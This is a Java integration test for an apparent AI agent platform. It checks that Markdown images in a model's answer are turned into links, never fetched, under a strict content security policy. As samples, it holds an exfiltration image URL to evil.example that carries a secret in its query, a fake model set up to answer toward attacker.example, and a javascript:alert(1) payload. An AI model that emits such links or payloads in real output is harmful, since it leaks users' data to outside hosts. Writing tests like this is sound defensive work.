package dev.custos.agent;

import java.util.List;
import java.util.Map;
import java.util.UUID;

import dev.custos.fakes.FakeModelProvider;
import dev.custos.platform.web.Markdown;
import dev.custos.support.CustosIntegrationTest;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A model's answer is untrusted: one that names an image on another host (how a prompt injection carries a
 * conversation off) must not make a reader's browser fetch it. Breakers: render Markdown images as {@code <img>},
 * or let the content security policy load images from any https host.
 */
class HostileOutputTest extends CustosIntegrationTest {

    private static FakeModelProvider fake;

    @BeforeAll
    static void startFake() throws Exception {
        fake = FakeModelProvider.start();
    }

    @AfterAll
    static void stopFake() {
        fake.close();
    }

    @Test
    @DisplayName("an image in a model's answer is shown as a link to confirm, never fetched, and the page's policy "
            + "loads images from Custos alone")
    void imagesInModelOutputAreNotFetched() {
        SignedIn owner = signUp("Hostile Output");
        UUID workspace = createWorkspace(owner, "Hostile");
        Registered provider = registerProvider("openai-compatible", fake.baseUrl(), true, "exfiltrate");
        allowProvider(owner, workspace, provider.id());
        var agent = owner.client().post("/api/workspaces/" + workspace + "/agents", Map.of("name", "Injected",
                "instructions", "Help.", "model", provider.name() + "/exfiltrate", "tools", List.of()));
        assertThat(agent.status()).as(agent.body()).isEqualTo(201);
        String session = runSession(owner, workspace, agent.text("id"), "my secret is WOMBAT-7");
        String sessionId = session.substring(session.lastIndexOf('/') + 1);

        var page = owner.client().get("/workspaces/" + workspace + "/sessions/" + sessionId + "/transcript",
                "Accept", "text/html");
        assertThat(page.status()).isEqualTo(200);
        assertThat(page.body()).contains("Image not loaded", "attacker.example").doesNotContain("<img");
        String csp = page.headers().firstValue("Content-Security-Policy").orElseThrow();
        assertThat(csp).contains("img-src 'self' data:;").doesNotContain("https:");
    }

    @Test
    @DisplayName("Markdown images become links with the host named; links never carry the referrer")
    void markdownImagesBecomeLinks() {
        String html = new Markdown().html("![chart](https://evil.example/x.png?q=secret) and [docs](https://ok.example)");
        assertThat(html).doesNotContain("<img").contains("Image not loaded: chart", "(open from evil.example)",
                "href=\"https://evil.example/x.png?q=secret\"", "rel=\"nofollow noopener noreferrer\"");
        assertThat(new Markdown().html("![x](javascript:alert(1))")).doesNotContain("javascript:");
    }
}
